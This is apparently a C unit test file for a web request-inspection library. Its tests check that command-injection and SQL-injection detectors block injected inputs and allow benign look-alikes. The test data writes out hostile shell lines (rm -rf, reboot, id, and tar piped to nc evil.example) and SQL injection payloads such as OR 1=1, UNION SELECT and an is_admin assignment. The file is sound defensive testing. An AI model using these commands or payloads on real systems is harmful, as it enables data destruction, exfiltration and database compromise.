/* misc11 (session 34): the request context every check shares -- a
 * one-byte shell input past the 64th place of its byte in the line, the
 * LIKE-escaped forms of other ESCAPE characters, a one-pair inner query
 * string whose value holds '=', and their benign twins. */
#include "agent_test.h"

#include <stdio.h>

static struct moat_request *begin(const char *interceptor)
{
	char pol[160];
	const struct moat_policy *p;
	struct moat_request_info ri = {.method = "POST", .endpoint = "/act"};
	struct moat_request *r = NULL;

	snprintf(pol, sizeof pol, "{\"interceptors\":{\"%s\":{\"mode\":\"block\"}}}", interceptor);
	p = moat_policy_parse(pol, 1, NULL, 0);
	assert_non_null(p);
	ri.policy = p;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_policy_release(p);
	return r;
}

static int shell_with(const char *input, const char *cmd)
{
	struct moat_request *r = begin("command_injection");
	int v;

	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_FORM, "dir", input, strlen(input)),
	                 0);
	v = moat_check_shell(r, cmd, strlen(cmd));
	moat_request_end(r);
	return v;
}

static int sql_with(int kind, const char *name, const char *input, const char *sql)
{
	struct moat_request *r = begin("sql_injection");
	int v;

	assert_int_equal(moat_request_add_input(r, kind, name, input, strlen(input)), 0);
	v = moat_check_sql(r, MOAT_SQL_SQLITE, sql, strlen(sql));
	moat_request_end(r);
	return v;
}

/* n words of w joined by sep, into out */
static void joined(char *out, size_t cap, const char *w, char sep, int n)
{
	size_t o = 0;

	for (int i = 0; i < n && o + strlen(w) + 2 < cap; i++)
		o += (size_t)snprintf(out + o, cap - o, "%s%s", i ? (char[]){sep, 0} : "", w);
}

/* The shell's one-byte separators were looked for at 64 places of their
 * byte at most: a note the application quotes correctly, holding the
 * byte 70 times, used them up before the input's place. */
static void a_one_byte_separator_past_its_64th_place_fires(void **state)
{
	char note[1024], cmd[2048];

	(void)state;
	joined(note, sizeof note, "ok", ';', 80);
	snprintf(cmd, sizeof cmd, "logger -t app '%s' && rm -rf /srv/app/users/;/avatar.png", note);
	assert_int_equal(shell_with(";", cmd), MOAT_BLOCK);
	joined(note, sizeof note, "k=v", '&', 90);
	snprintf(cmd, sizeof cmd,
	         "curl -s \"https://api.example/v1?%s\" -o /var/cache/feeds/&index.json", note);
	assert_int_equal(shell_with("&", cmd), MOAT_BLOCK);
	joined(note, sizeof note, "err", '|', 70);
	snprintf(cmd, sizeof cmd, "grep -E '%s' /var/log/x.log > /tmp/report/|summary.txt", note);
	assert_int_equal(shell_with("|", cmd), MOAT_BLOCK);
	joined(note, sizeof note, "line", '\n', 100);
	snprintf(cmd, sizeof cmd, "printf '%%s' '%s' > /srv/out/\nname.txt", note);
	assert_int_equal(shell_with("\n", cmd), MOAT_BLOCK);
	/* the byte as a word of its own, unquoted and glued, 70 times:
	 * (every place a cut in a line the application glued: blocks) */
	joined(note, sizeof note, "a", ';', 70);
	snprintf(cmd, sizeof cmd, "true '%s' ; tar czf /srv/backups/;x.tgz /srv", note);
	assert_int_equal(shell_with(";", cmd), MOAT_BLOCK);
}

/* review27e on this branch: the byte before the application's '-'
 * suffix, and after an ANSI-C quote or a here-document's body holding a
 * quote (sh -c "rm -rf DIR/cache/;-thumbs" removed DIR/cache here) */
static void a_one_byte_separator_before_a_dash_or_after_a_body_fires(void **state)
{
	(void)state;
	assert_int_equal(shell_with(";", "tar czf /srv/backup/db;-v2.tgz /srv/db"), MOAT_BLOCK);
	assert_int_equal(shell_with("&", "shred -u /var/tmp/upload&-old.bin"), MOAT_BLOCK);
	assert_int_equal(shell_with("|", "rm -f /srv/www/thumbs/|-small.jpg"), MOAT_BLOCK);
	assert_int_equal(shell_with(";", "printf $'don\\'t\\n'; rm -rf /home/app/media/;/x.png"),
	                 MOAT_BLOCK);
	assert_int_equal(
	    shell_with("\n", "cat <<EOF > /tmp/m\nwe're \"live\"\nEOF\nrm -rf /data/u/\nx.jpg"),
	    MOAT_BLOCK);
	/* twins: an option's alternatives, the byte inside a body or an
	 * ANSI-C string */
	assert_int_equal(shell_with("|", "paste [-d|--delimiters] list file"), MOAT_ALLOW);
	assert_int_equal(shell_with("&", "sort {-r&-n} data"), MOAT_ALLOW);
	assert_int_equal(shell_with(";", "cat <<'X' > /tmp/n\nrm -rf /a/;b/c\nX\nwc -l /tmp/n"),
	                 MOAT_ALLOW);
	assert_int_equal(shell_with(";", "echo $'a\\'b;c'"), MOAT_ALLOW);
}

static void a_one_byte_input_after_many_quoted_copies_stays_allowed(void **state)
{
	char note[1024], cmd[2048];

	(void)state;
	joined(note, sizeof note, "ok", ';', 80);
	/* the input's byte quoted where it is, or a letter */
	snprintf(cmd, sizeof cmd, "logger -t app '%s' && rm -rf '/srv/app/users/;/avatar.png'",
	         note);
	assert_int_equal(shell_with(";", cmd), MOAT_ALLOW);
	snprintf(cmd, sizeof cmd, "logger -t app '%s' && rm -rf /srv/app/users/q/avatar.png", note);
	assert_int_equal(shell_with("q", cmd), MOAT_ALLOW);
	/* the application's own separators, blanks beside them */
	snprintf(cmd, sizeof cmd, "logger -t app '%s' ; ls /srv | wc -l & wait", note);
	assert_int_equal(shell_with(";", cmd), MOAT_ALLOW);
	assert_int_equal(shell_with("|", cmd), MOAT_ALLOW);
	assert_int_equal(shell_with("&", cmd), MOAT_ALLOW);
}

/* bash reads -c inside a cluster after a valued letter: the value is the
 * next word, the line the word after it (bash -eoc pipefail '...'; run
 * here: bash 5.2 printed root for each shape below) */
static void a_line_after_a_cluster_holding_c_and_a_valued_letter_fires(void **state)
{
	(void)state;
	assert_int_equal(shell_with("x; id", "bash -eoc pipefail 'echo x; id'"), MOAT_BLOCK);
	assert_int_equal(
	    shell_with("all; uname -a", "/bin/bash -euoc pipefail \"make all; uname -a\""),
	    MOAT_BLOCK);
	assert_int_equal(
	    shell_with("v | nc evil.example 9", "bash -ceo pipefail 'tar c v | nc evil.example 9'"),
	    MOAT_BLOCK);
	assert_int_equal(shell_with("1 && whoami", "zsh -eOc extendedglob 'job 1 && whoami'"),
	                 MOAT_BLOCK);
	assert_int_equal(shell_with("n; reboot", "sudo -u app bash -xeoc pipefail 'run n; reboot'"),
	                 MOAT_BLOCK);
	/* twins: the input a word of the inner line, or of a program's
	 * own cluster with a value */
	assert_int_equal(shell_with("release-42", "bash -eoc pipefail 'git tag release-42'"),
	                 MOAT_ALLOW);
	assert_int_equal(shell_with("nightly", "bash -euoc pipefail \"deploy nightly\""),
	                 MOAT_ALLOW);
	assert_int_equal(shell_with("a b", "grep -ow word 'a b' /srv/notes.txt"), MOAT_ALLOW);
}

/* The input as an application that escapes LIKE's wildcards with an
 * ESCAPE character of its own pastes it (SQLAlchemy's autoescape: '/',
 * jOOQ's contains(): '!'), quotes not escaped; e: the character. */
static void like_paste(char *out, size_t cap, const char *head, const char *v, char e,
                       const char *mid, const char *rest)
{
	size_t o = (size_t)snprintf(out, cap, "%s", head);

	for (; *v && o + 3 < cap; v++) {
		if (*v == '%' || *v == '_' || *v == e)
			out[o++] = e;
		out[o++] = *v;
	}
	snprintf(out + o, cap - o, "%s%c'%s", mid, e, rest);
}

/* run here: python3's sqlite3 returned every row for each (review25's
 * fifth misc10 test, in wordings of ours) */
static void a_like_escape_of_another_character_is_judged(void **state)
{
	static const struct {
		char e;
		const char *v;
	} bad[] = {
	    {'!', "a_b' OR 1=1-- "},
	    {'!', "wow!' OR 2>1-- "}, /* the escape doubled, no wildcard */
	    {'/', "x%' UNION SELECT owner FROM items-- "},
	    {'^', "q^' OR name LIKE '"},
	    {'#', "z_' OR 1=1 OR name LIKE '"},
	    {'~', "50~' OR name LIKE '"},
	    {'|', "r_%' OR 'a'='a' -- "},
	};
	char sql[512];
	int bads = 0;

	(void)state;
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		like_paste(sql, sizeof sql,
		           "SELECT id FROM items WHERE owner = 'ana' AND name LIKE '%", bad[i].v,
		           bad[i].e, "%' ESCAPE '", "");
		if (sql_with(MOAT_INPUT_QUERY, "q", bad[i].v, sql) != MOAT_BLOCK) {
			print_message("allowed: %s\n", sql);
			bads++;
		}
		/* lower case, and the pattern's other end */
		like_paste(sql, sizeof sql, "select id from items where name like '", bad[i].v,
		           bad[i].e, "%' escape '", " and owner = 'ana'");
		if (sql_with(MOAT_INPUT_FORM, "term", bad[i].v, sql) != MOAT_BLOCK) {
			print_message("allowed: %s\n", sql);
			bads++;
		}
	}
	assert_int_equal(bads, 0);
}

static void a_like_escape_twin_stays_allowed(void **state)
{
	(void)state;
	/* quotes escaped too: the input stays inside the pattern */
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "q", "O'Neil_2024",
	                          "SELECT id FROM t WHERE n LIKE '%O''Neil!_2024%' ESCAPE '!'"),
	                 MOAT_ALLOW);
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "q", "Don't panic!",
	                          "SELECT id FROM t WHERE n LIKE '%Don''t panic!!%' ESCAPE '!'"),
	                 MOAT_ALLOW);
	assert_int_equal(
	    sql_with(MOAT_INPUT_FORM, "q", "50% off_now 'today'",
	             "SELECT id FROM t WHERE n LIKE '%50/% off/_now ''today''%' ESCAPE '/'"),
	    MOAT_ALLOW);
	/* no quote: nothing to break out of */
	assert_int_equal(sql_with(MOAT_INPUT_FORM, "q", "100%_sure",
	                          "SELECT id FROM t WHERE n LIKE '%100^%^_sure%' ESCAPE '^'"),
	                 MOAT_ALLOW);
	/* an ESCAPE clause, the input escaped with another character */
	assert_int_equal(
	    sql_with(MOAT_INPUT_QUERY, "q", "it's_x",
	             "SELECT id FROM t WHERE n LIKE '%it''s!_x%' ESCAPE '!' AND m LIKE "
	             "'a#_%' ESCAPE '#'"),
	    MOAT_ALLOW);
}

/* A parameter whose value is a query string of one pair, the pair's
 * value holding '=' (review25b-misc10): the application parses it
 * (parse_qs, URLSearchParams, qs) and pastes the pair's value. Run here:
 * python3's urllib.parse.parse_qs("q=x' OR 1=1-- ") gives the value
 * "x' OR 1=1-- ", which sqlite3 ran, returning every row. */
static void a_one_pair_inner_query_string_with_equals_is_opened(void **state)
{
	(void)state;
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "ctx", "q=x' OR 1=1-- ",
	                          "SELECT id FROM items WHERE name = 'x' OR 1=1-- '"),
	                 MOAT_BLOCK);
	assert_int_equal(sql_with(MOAT_INPUT_FORM, "filter", "role=admin' OR 'a'='a",
	                          "SELECT id FROM users WHERE role = 'admin' OR 'a'='a'"),
	                 MOAT_BLOCK);
	/* sent escaped: opened through its URL-decoded form */
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "state", "next%3Dz%27%20OR%20id%3D1--%20",
	                          "SELECT id FROM items WHERE name = 'z' OR id=1-- '"),
	                 MOAT_BLOCK);
	/* a number that writes an assignment of its own */
	assert_int_equal(sql_with(MOAT_INPUT_COOKIE, "prefs", "credit=1, is_admin=1",
	                          "UPDATE users SET credit = 1, is_admin=1 WHERE id = 5"),
	                 MOAT_BLOCK);
	/* a leading empty pair */
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "ctx", "&k=y' OR 2=2 -- ",
	                          "SELECT id FROM items WHERE name = 'y' OR 2=2 -- '"),
	                 MOAT_BLOCK);
}

/* The value pasted whole: what is judged is the whole value there (the
 * outer input), not a piece cut out of it (GALLERY=1=5 in a number's
 * place, libinjection's benign list; misc10 kept one-pair strings shut
 * for it) */
static void an_inner_value_inside_its_whole_outer_value_is_not_judged_alone(void **state)
{
	(void)state;
	assert_int_equal(
	    sql_with(MOAT_INPUT_QUERY, "q", "GALLERY=1=5",
	             "SELECT id, name, price FROM products WHERE id = GALLERY=1=5 AND visible = 1"),
	    MOAT_ALLOW);
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "q", "PAGE=2=3",
	                          "SELECT id FROM products WHERE id = PAGE=2=3"),
	                 MOAT_ALLOW);
	assert_int_equal(
	    sql_with(MOAT_INPUT_FORM, "eq", "x=a=b", "INSERT INTO notes (body) VALUES ('x=a=b')"),
	    MOAT_ALLOW);
	assert_int_equal(sql_with(MOAT_INPUT_FORM, "tok", "token=dGVzdA==",
	                          "SELECT id FROM sessions WHERE token = 'dGVzdA=='"),
	                 MOAT_ALLOW);
	assert_int_equal(sql_with(MOAT_INPUT_QUERY, "f", "sort=price=desc",
	                          "SELECT id FROM products WHERE tag = 'price=desc'"),
	                 MOAT_ALLOW);
}

/* formsfix2's collapse test folded into the value's one pass (misc11):
 * a run of white space at every place around the pass's 8- and 64-byte
 * steps still makes the collapsed form */
static void a_run_at_every_place_of_the_pass_is_collapsed(void **state)
{
	static const char *const runs[] = {"  ", "\t", "\r\n", "\x1f", "\v\v"};
	char in[512], sql[1024];
	int bad = 0;

	(void)state;
	for (size_t r = 0; r < sizeof runs / sizeof runs[0]; r++)
		for (int at = 0; at < 140; at++) {
			int o = 0;
			for (int i = 0; i < at; i++)
				in[o++] = "Lorem-ipsum.dolor,sit"[i % 21];
			o += snprintf(in + o, sizeof in - (size_t)o, "'%sOR%s1=1-- ", runs[r],
			              runs[r]);
			snprintf(sql, sizeof sql, "SELECT id FROM t WHERE k = '%.*s' OR 1=1-- '",
			         at, in);
			if (sql_with(MOAT_INPUT_FORM, "k", in, sql) != MOAT_BLOCK) {
				print_message("allowed: run %zu at %d\n", r, at);
				bad++;
			}
		}
	assert_int_equal(bad, 0);
	/* twins: a single space at those places, the value whole in a string */
	for (int at = 0; at < 140; at += 7) {
		int o = 0;
		for (int i = 0; i < at; i++)
			in[o++] = "Lorem ipsum.dolor sit"[i % 21];
		in[o] = '\0';
		snprintf(sql, sizeof sql, "SELECT id FROM t WHERE k = '%s'", in);
		assert_int_equal(sql_with(MOAT_INPUT_FORM, "k", in, sql), MOAT_ALLOW);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_one_byte_separator_past_its_64th_place_fires),
	    cmocka_unit_test(a_one_byte_input_after_many_quoted_copies_stays_allowed),
	    cmocka_unit_test(a_one_byte_separator_before_a_dash_or_after_a_body_fires),
	    cmocka_unit_test(a_line_after_a_cluster_holding_c_and_a_valued_letter_fires),
	    cmocka_unit_test(a_like_escape_of_another_character_is_judged),
	    cmocka_unit_test(a_like_escape_twin_stays_allowed),
	    cmocka_unit_test(a_one_pair_inner_query_string_with_equals_is_opened),
	    cmocka_unit_test(an_inner_value_inside_its_whole_outer_value_is_not_judged_alone),
	    cmocka_unit_test(a_run_at_every_place_of_the_pass_is_collapsed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
